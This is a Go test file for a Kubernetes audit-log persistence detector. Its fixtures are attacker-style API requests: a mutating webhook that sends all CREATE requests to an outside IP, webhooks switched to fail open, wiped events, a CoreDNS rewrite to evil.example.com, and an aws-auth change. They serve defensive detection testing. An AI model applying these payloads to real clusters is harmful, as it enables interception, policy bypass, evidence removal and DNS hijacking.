package detect

import (
	"testing"
	"time"

	"github.com/kubedelta/kubedelta/internal/baseline"
	"github.com/kubedelta/kubedelta/internal/event"
)

func wkPersistence() []Detector {
	return []Detector{&specPersistenceDetector{sys: newSpecIdentities(nil), log: wkLog()}}
}

func TestPersistence(t *testing.T) {
	const ar = "admissionregistration.k8s.io"
	hook := func(user, verb, resource, name, body string) *event.APIRequest {
		r := wkReq(user, verb, ar, resource, "", name)
		if body != "" {
			wkBody(r, body)
		}
		return r
	}
	const mwh = `{"metadata":{"name":"inject"},"webhooks":[{"name":"inject.example.com","clientConfig":{"url":"https://203.0.113.9/mutate"},"rules":[{"operations":["CREATE"],"apiGroups":["*"],"apiVersions":["*"],"resources":["*"]}],"failurePolicy":"Ignore","sideEffects":"None","admissionReviewVersions":["v1"]}]}`
	ops := "system:serviceaccount:cert-manager:cert-manager-cainjector"
	knownPatcher := func(s *State) {
		wkLearnSubject(s.Profiles, ops, baseline.CallKey{Verb: "patch", APIGroup: ar, Resource: "mutatingwebhookconfigurations"})
	}
	dev := "system:serviceaccount:ci:deployer"
	warmDev := func(s *State) {
		wkLearnSubject(s.Profiles, dev,
			baseline.CallKey{Verb: "patch", APIGroup: "apps", Resource: "deployments", Namespace: "shop"},
			baseline.CallKey{Verb: "create", APIGroup: "batch", Resource: "jobs", Namespace: "shop"})
	}
	cronWriter := func(s *State) {
		warmDev(s)
		wkLearnSubject(s.Profiles, dev, baseline.CallKey{Verb: "create", APIGroup: "batch", Resource: "cronjobs", Namespace: "batch"})
	}
	learning := func(s *State) {
		warmDev(s)
		s.Config.LearnUntil = wkNow.Add(time.Hour)
	}
	cron := func(user, verb, ns string) *event.APIRequest {
		return wkBody(wkReq(user, verb, "batch", "cronjobs", ns, "cleanup"),
			`{"metadata":{"name":"cleanup"},"spec":{"schedule":"*/10 * * * *","jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"c","image":"alpine"}]}}}}}}`)
	}
	cases := []wkCase{
		{name: "mutating webhook created", rule: RulePersistenceChange, sev: Critical, message: "alice created MutatingWebhookConfiguration inject: it sees and rewrites",
			req: hook("alice", "create", "mutatingwebhookconfigurations", "inject", mwh)},
		{name: "validating webhook created", rule: RulePersistenceChange, sev: High, message: "can reject",
			req: hook("alice", "create", "validatingwebhookconfigurations", "policy", `{"webhooks":[{"name":"p.example.com","failurePolicy":"Fail"}]}`)},
		{name: "policy webhook deleted", rule: RulePersistenceChange, sev: Critical, message: "admission checks it enforced stop applying",
			req: hook("alice", "delete", "validatingwebhookconfigurations", "gatekeeper-validating-webhook-configuration", "")},
		{name: "switched to fail open", rule: RulePersistenceChange, sev: Critical, message: "failurePolicy Ignore on validation.gatekeeper.sh",
			req: hook("alice", "patch", "validatingwebhookconfigurations", "gatekeeper-validating-webhook-configuration",
				`{"webhooks":[{"name":"validation.gatekeeper.sh","failurePolicy":"Ignore"}]}`)},
		{name: "switched to fail open by JSON patch", rule: RulePersistenceChange, sev: Critical, message: "failurePolicy Ignore",
			req: hook("alice", "patch", "validatingwebhookconfigurations", "kyverno-resource-validating-webhook-cfg",
				`[{"op":"replace","path":"/webhooks/0/failurePolicy","value":"Ignore"}]`)},
		{name: "caBundle injection as usual", rule: RulePersistenceChange, sev: Low, setup: knownPatcher, message: "patched MutatingWebhookConfiguration",
			req: hook(ops, "patch", "mutatingwebhookconfigurations", "cert-manager-webhook",
				`{"webhooks":[{"name":"webhook.cert-manager.io","clientConfig":{"caBundle":"LS0tLS1CRUdJTi=="}}]}`)},
		{name: "webhook written by a kube-system controller", req: hook("system:serviceaccount:kube-system:eks-pod-identity", "update", "mutatingwebhookconfigurations", "pod-identity-webhook", mwh)},
		{name: "webhook listed", req: hook("alice", "list", "mutatingwebhookconfigurations", "", "")},

		{name: "first CronJob of an identity", rule: RulePersistenceChange, sev: Medium, setup: warmDev,
			message: "the first CronJob write by this identity since 2026-11-22", req: cron(dev, "create", "shop")},
		{name: "first CronJob, in kube-system", rule: RulePersistenceChange, sev: High, setup: warmDev, message: "kube-system/cleanup",
			req: cron(dev, "create", "kube-system")},
		{name: "first DaemonSet patch", rule: RulePersistenceChange, sev: Medium, setup: warmDev, message: "runs a pod on every node",
			req: wkBody(wkReq(dev, "patch", "apps", "daemonsets", "shop", "agent"), `{"spec":{"template":{"spec":{"containers":[{"name":"a","image":"a:2"}]}}}}`)},
		{name: "CronJob writer as usual", setup: cronWriter, req: cron(dev, "update", "shop")},
		{name: "CronJob during learning", setup: learning, req: cron(dev, "create", "shop")},
		{name: "CronJob by an identity never seen", req: cron(dev, "create", "shop")},
		{name: "CronJob status", setup: warmDev, req: wkSub(cron(dev, "update", "shop"), "status")},

		{name: "events wiped", rule: RulePersistenceChange, sev: High, message: "alice deleted all events in shop",
			req: wkReq("alice", "deletecollection", "", "events", "shop", "")},
		{name: "one event deleted", rule: RulePersistenceChange, sev: Medium, message: "deleted event api-7d9.17f2",
			req: wkReq("alice", "delete", "events.k8s.io", "events", "shop", "api-7d9.17f2")},
		{name: "namespace controller", req: wkReq("system:serviceaccount:kube-system:namespace-controller", "deletecollection", "", "events", "old", "")},
		{name: "events recorded", req: wkReq("system:node:node-1", "create", "", "events", "shop", "")},

		{name: "CoreDNS changed", rule: RulePersistenceChange, sev: High, message: "ConfigMap kube-system/coredns, the cluster DNS configuration",
			req: wkBody(wkReq("alice", "patch", "", "configmaps", "kube-system", "coredns"), `{"data":{"Corefile":".:53 {\n rewrite name api.shop.svc.cluster.local evil.example.com\n}"}}`)},
		{name: "aws-auth changed", rule: RulePersistenceChange, sev: Critical, message: "system:masters",
			req: wkReq("alice", "update", "", "configmaps", "kube-system", "aws-auth")},
		{name: "other kube-system ConfigMap", req: wkReq("alice", "update", "", "configmaps", "kube-system", "kube-proxy")},
		{name: "CoreDNS read", req: wkReq("alice", "get", "", "configmaps", "kube-system", "coredns")},
	}
	wkRunCases(t, wkPersistence(), cases)
}
